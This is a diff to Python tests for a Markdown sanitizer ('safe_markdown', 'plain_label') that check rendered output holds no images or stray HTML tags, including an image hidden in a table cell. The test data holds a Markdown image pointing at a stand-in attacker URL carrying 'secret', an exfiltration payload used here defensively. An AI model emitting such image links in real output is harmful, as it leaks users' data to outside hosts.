@@ -8,10 +8,11 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from app_pages.rendering import safe_markdown
+from app_pages.rendering import plain_label, safe_markdown
 
-# A renderer that passes raw HTML through: stricter than Streamlit's, which drops it.
-HTML = MarkdownIt("commonmark", {"html": True})
+# A renderer that passes raw HTML through (stricter than Streamlit's, which drops it),
+# with the GitHub tables and strikethrough Streamlit renders.
+HTML = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
 LEAK = "https://attacker.example/?d=secret"
 
 
@@ -70,6 +71,20 @@ def test_text_built_to_misplace_a_code_span_is_escaped_whole() -> None:
         assert "<img" not in rendered, (text, rendered)
 
 
+def test_an_image_hidden_in_a_table_cell_is_caught() -> None:
+    text = f"| h | i |\n|---|---|\n| `a | ![x]({LEAK}) b` |\n"
+    assert "<img" not in html_of(text)
+
+
+def test_titles_show_as_the_characters_they_are() -> None:
+    title = f"![]({LEAK}) **bold** <b>x</b> [a](b) | c"
+    rendered = HTML.render(plain_label(title))
+    assert "<img" not in rendered and "<strong>" not in rendered and "<a " not in rendered
+    assert "<b>" not in rendered
+    text_only = re.sub(r"<[^>]+>", "", rendered).strip()
+    assert text_only.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"') == title
+
+
 def test_plain_text_is_unchanged() -> None:
     text = "# Title\n\n- one\n- **two** and *three*\n\n1 < 2 and 3 > 2; a [bracket] here."
     assert safe_markdown(text) == text
@@ -98,6 +113,8 @@ def test_plain_text_is_unchanged() -> None:
                 '"t"',
                 "\\",
                 "<https://x.example>",
+                "|",
+                "\n|---|---|\n",
             ]
         ),
         max_size=30,
@@ -107,7 +124,9 @@ def test_no_text_renders_an_image_or_a_tag(text: str) -> None:
     rendered = html_of(text)
     assert not re.search(r"<img\b", rendered), (text, rendered)
     assert not re.search(
-        r"<(?!/?(p|a|code|pre|em|strong|br|ul|ol|li|h\d|hr|blockquote)\b)[a-z]", rendered
+        r"<(?!/?(p|a|code|pre|em|strong|br|ul|ol|li|h\d|hr|blockquote"
+        r"|table|thead|tbody|tr|th|td|s)\b)[a-z]",
+        rendered,
     ), (
         text,
         rendered,
